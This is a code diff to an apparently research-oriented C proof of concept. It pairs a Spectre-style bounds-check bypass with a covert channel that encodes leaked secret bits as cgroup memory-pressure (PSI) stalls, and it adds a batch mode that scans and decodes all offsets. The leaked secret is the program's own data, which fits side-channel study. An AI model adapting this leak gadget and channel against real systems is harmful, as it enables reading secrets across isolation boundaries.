@@ -10,19 +10,32 @@
 #include <time.h>
 #include <stdint.h>
 
+#include "cgroup_pool.h"
+#include "psi.h"
+#include "telemetry.h"
+
 #define CGROUP_PATH "/sys/fs/cgroup/memory_stress1"
 #define MEMORY_LIMIT "1G"
+#define POOL_SLOTS 2
 #define ARRAY_SIZE 16
 #define SECRET_SIZE 16
 #define TRAINING_ROUNDS 6
-
-// Volatile for memory ordering and optimization prevention
-volatile char array[ARRAY_SIZE];
+#define SCAN_WINDOW_MS 2000          // receiver-side measurement window per offset
+#define SCAN_THRESHOLD_US 10000      // some-stall growth that decodes as a 0 bit
+
+// Volatile for memory ordering and optimization prevention.
+// The secret sits right behind the array the victim bounds-checks against.
+struct {
+    volatile char array[ARRAY_SIZE];
+    volatile char secret[SECRET_SIZE];
+} __attribute__((packed)) memory_layout;
 volatile int array_size = ARRAY_SIZE;
-volatile char secret[SECRET_SIZE];
 volatile sig_atomic_t terminate_requested = 0;
 
-pid_t stress_pids[2] = {0};
+struct cgroup_pool pool;
+struct cgroup_slot *base_slot;    // long-lived 200 MiB base stressor
+struct cgroup_slot *encode_slot;  // stressors started by victim_function
+struct telemetry telemetry;
 
 // Async-safe write
 void safe_write(int fd, const char *msg) {
@@ -37,88 +50,26 @@ void handle_signal(int sig) {
     terminate_requested = 1;
 }
 
-// Full cgroup cleanup
+// cgroup.kill takes down every stressor at once, then reap them. The slots
+// stay in place so the next run (one process per offset) reuses them.
 void cleanup_cgroup() {
-    for (int i = 0; i < 2; i++) {
-        if (stress_pids[i] > 0) {
-            kill(stress_pids[i], SIGTERM);
-            waitpid(stress_pids[i], NULL, 0);
-            stress_pids[i] = 0;
-        }
-    }
-
-    if (rmdir(CGROUP_PATH) == -1 && errno != ENOENT) {
-        safe_write(STDERR_FILENO, "Failed to clean up cgroup\n");
-    }
+    telemetry_close(&telemetry);
+    cgroup_pool_close(&pool);
+    while (waitpid(-1, NULL, 0) > 0) {}
 }
 
 // Memory barrier
 #define compiler_barrier() asm volatile("" ::: "memory")
 
-void assign_to_cgroup(pid_t pid) {
-    char path[256];
-    snprintf(path, sizeof(path), "%s/cgroup.procs", CGROUP_PATH);
-
-    int fd = open(path, O_WRONLY | O_APPEND);
-    if (fd == -1) {
-        perror("cgroup.procs open failed");
-        exit(EXIT_FAILURE);
-    }
-
-    char pid_str[16];
-    snprintf(pid_str, sizeof(pid_str), "%d\n", pid);
-    ssize_t written = write(fd, pid_str, strlen(pid_str));
-    if (written == -1) {
-        perror("Failed to write PID to cgroup");
-        close(fd);
-        exit(EXIT_FAILURE);
-    }
-    close(fd);
-}
-
-void create_cgroup() {
-    if (mkdir(CGROUP_PATH, 0755) && errno != EEXIST) {
-        perror("cgroup creation failed");
+void setup_cgroup() {
+    if (cgroup_pool_init(&pool, CGROUP_PATH, MEMORY_LIMIT "\n", "max\n", POOL_SLOTS) == -1) {
         exit(EXIT_FAILURE);
     }
+    base_slot = cgroup_pool_acquire(&pool);
+    encode_slot = cgroup_pool_acquire(&pool);
 }
 
-void configure_cgroup() {
-    // Enable memory controller
-    int fd = open("/sys/fs/cgroup/cgroup.subtree_control", O_WRONLY | O_APPEND);
-    if (fd == -1) {
-        perror("subtree_control failed");
-        exit(EXIT_FAILURE);
-    }
-
-    ssize_t written = write(fd, "+memory\n", 8);
-    if (written != 8) {
-        perror("Failed to enable memory controller");
-        close(fd);
-        exit(EXIT_FAILURE);
-    }
-    close(fd);
-
-    // Set memory limit
-    char limit_path[256];
-    snprintf(limit_path, sizeof(limit_path), "%s/memory.max", CGROUP_PATH);
-    fd = open(limit_path, O_WRONLY);
-    if (fd == -1) {
-        perror("memory.max open failed");
-        exit(EXIT_FAILURE);
-    }
-
-    const char *limit = MEMORY_LIMIT "\n";
-    written = write(fd, limit, strlen(limit));
-    if (written != (ssize_t)strlen(limit)) {
-        perror("Failed to set memory limit");
-        close(fd);
-        exit(EXIT_FAILURE);
-    }
-    close(fd);
-}
-
-pid_t run_stress(int mb, int psi_mode) {
+pid_t run_stress(int mb, int psi_mode, const struct cgroup_slot *slot) {
     char mem_str[32];
     snprintf(mem_str, sizeof(mem_str), "%dM", mb);
 
@@ -129,6 +80,11 @@ pid_t run_stress(int mb, int psi_mode) {
     }
 
     if (pid == 0) {
+        // Join the cgroup before exec so no allocation escapes the limit
+        if (cgroup_pool_attach_self(slot) == -1) {
+            perror("Failed to write PID to cgroup");
+            _exit(EXIT_FAILURE);
+        }
         if (psi_mode) {
             execlp("stress-ng", "stress-ng", "--vm-bytes", mem_str,
                    "--vm-keep", "-m", "1", "--timeout", "10", NULL);
@@ -139,7 +95,6 @@ pid_t run_stress(int mb, int psi_mode) {
         _exit(EXIT_FAILURE);
     }
 
-    assign_to_cgroup(pid);
     return pid;
 }
 
@@ -154,10 +109,10 @@ void victim_function(int x) {
         for (volatile int i = 0; i < 100; i++) {}
 
         // Force speculative execution
-        if (array[x]) {
-            stress_pids[0] = run_stress(1, 0);
+        if (memory_layout.array[x]) {
+            run_stress(1, 0, encode_slot);
         } else {
-            stress_pids[1] = run_stress(1024, 1);
+            run_stress(1024, 1, encode_slot);
         }
     }
     compiler_barrier();
@@ -174,6 +129,75 @@ void encode(int malicious_x, int train) {
     }
 }
 
+long parse_offset(const char *arg) {
+    char *endptr;
+    long offset = strtol(arg, &endptr, 10);
+    if (*endptr || offset < 0 || offset >= SECRET_SIZE) {
+        fprintf(stderr, "Invalid offset (0-15 required)\n");
+        exit(EXIT_FAILURE);
+    }
+    return offset;
+}
+
+// Batch mode: keep the cgroup and base load up and measure one window per offset.
+// A 1024 MiB stressor makes the some-stall total grow by far more than
+// SCAN_THRESHOLD_US during the window (decoded 0); a 1 MiB stressor does not (1).
+// Architecturally the victim never reads the secret: secret_x + offset fails the
+// bounds check, and the training calls read memory_layout.array, which is all
+// 1s. A 0 can therefore only come from a stressor choice that leaked through
+// speculation, so the decoded bits are reported as measured, not scored
+// against the secret.
+void scan_offsets(int secret_x, long first, long last) {
+    char pressure_path[256];
+    snprintf(pressure_path, sizeof(pressure_path), "%s/memory.pressure", CGROUP_PATH);
+    int psi_fd = psi_open(pressure_path);
+    if (psi_fd == -1) {
+        perror("memory.pressure open failed");
+        cleanup_cgroup();
+        exit(EXIT_FAILURE);
+    }
+
+    struct timespec window = {.tv_sec = SCAN_WINDOW_MS / 1000,
+                              .tv_nsec = (SCAN_WINDOW_MS % 1000) * 1000000L};
+    int bits[SECRET_SIZE];
+    long scanned = first;
+
+    printf("offset  some_delta_us  full_delta_us  bit\n");
+    for (; scanned <= last && !terminate_requested; scanned++) {
+        struct psi_sample before, after;
+        if (psi_read_fd(psi_fd, &before) == -1) {
+            perror("memory.pressure read failed");
+            break;
+        }
+
+        encode(secret_x + (int)scanned, 10);
+        nanosleep(&window, NULL);
+
+        if (psi_read_fd(psi_fd, &after) == -1) {
+            perror("memory.pressure read failed");
+            break;
+        }
+        unsigned long long some_delta = after.some.total - before.some.total;
+        unsigned long long full_delta = after.full.total - before.full.total;
+        bits[scanned] = some_delta > SCAN_THRESHOLD_US ? 0 : 1;
+        telemetry_symbol(&telemetry, scanned, bits[scanned], 0);
+        printf("%6ld  %13llu  %13llu  %3d\n", scanned, some_delta, full_delta, bits[scanned]);
+
+        // Drop this offset's stressors; the base load keeps running
+        if (cgroup_pool_reset(&pool, encode_slot) == -1) {
+            break;
+        }
+        while (waitpid(-1, NULL, WNOHANG) > 0) {}
+    }
+    close(psi_fd);
+
+    printf("decoded: ");
+    for (long i = first; i < scanned; i++) {
+        printf("%d", bits[i]);
+    }
+    printf("\n");
+}
+
 int main(int argc, char *argv[]) {
     struct sigaction sa;
     sa.sa_handler = handle_signal;
@@ -182,12 +206,6 @@ int main(int argc, char *argv[]) {
     sigaction(SIGINT, &sa, NULL);
     sigaction(SIGTERM, &sa, NULL);
 
-    // Ensure memory layout
-    struct {
-        volatile char array[ARRAY_SIZE];
-        volatile char secret[SECRET_SIZE];
-    } __attribute__((packed)) memory_layout;
-
     // Initialize memory
     memset((void*)memory_layout.array, 1, ARRAY_SIZE); // All array elements = 1
     // Use actual 0s and 1s instead of ASCII characters
@@ -195,36 +213,55 @@ int main(int argc, char *argv[]) {
     memcpy((void*)memory_layout.secret, secret_bits, SECRET_SIZE);
 
     // Validate input
-    if (argc != 2) {
-        fprintf(stderr, "Usage: %s <offset 0-15>\n", argv[0]);
+    int scan = argc >= 2 && strcmp(argv[1], "--scan") == 0;
+    if ((!scan && argc != 2) || (scan && argc != 2 && argc != 4)) {
+        fprintf(stderr, "Usage: %s <offset 0-15>\n"
+                        "       %s --scan [<first 0-15> <last 0-15>]\n"
+                        "       %s --remove\n", argv[0], argv[0], argv[0]);
         exit(EXIT_FAILURE);
     }
+    if (strcmp(argv[1], "--remove") == 0) {
+        // Drop the cgroups kept between runs
+        cgroup_pool_remove(CGROUP_PATH, POOL_SLOTS);
+        return EXIT_SUCCESS;
+    }
 
-    char *endptr;
-    long offset = strtol(argv[1], &endptr, 10);
-    if (*endptr || offset < 0 || offset >= SECRET_SIZE) {
-        fprintf(stderr, "Invalid offset (0-15 required)\n");
-        exit(EXIT_FAILURE);
+    long first = 0, last = SECRET_SIZE - 1;
+    if (!scan) {
+        first = last = parse_offset(argv[1]);
+    } else if (argc == 4) {
+        first = parse_offset(argv[2]);
+        last = parse_offset(argv[3]);
+        if (first > last) {
+            fprintf(stderr, "Invalid range (first > last)\n");
+            exit(EXIT_FAILURE);
+        }
     }
 
     // Calculate malicious index
     size_t array_base = (size_t)&memory_layout.array[0];
     size_t secret_base = (size_t)&memory_layout.secret[0];
-    int malicious_x = (secret_base - array_base) + offset;
+    int secret_x = secret_base - array_base;
 
     // Setup cgroup
-    create_cgroup();
-    configure_cgroup();
+    setup_cgroup();
+
+    telemetry_open_from_env(&telemetry, "CovertChannel1");
+    telemetry_watch(&telemetry, CGROUP_PATH "/memory.pressure", CGROUP_PATH);
 
     // Base stressor
-    pid_t base_stress = run_stress(200, 0);
+    run_stress(200, 0, base_slot);
 
     // Prime system
     struct timespec delay = {.tv_sec = 1, .tv_nsec = 0};
     nanosleep(&delay, NULL);
 
     // Trigger speculation
-    encode(malicious_x, 10);
+    if (scan) {
+        scan_offsets(secret_x, first, last);
+    } else {
+        encode(secret_x + (int)first, 10);
+    }
 
     // Cleanup
     cleanup_cgroup();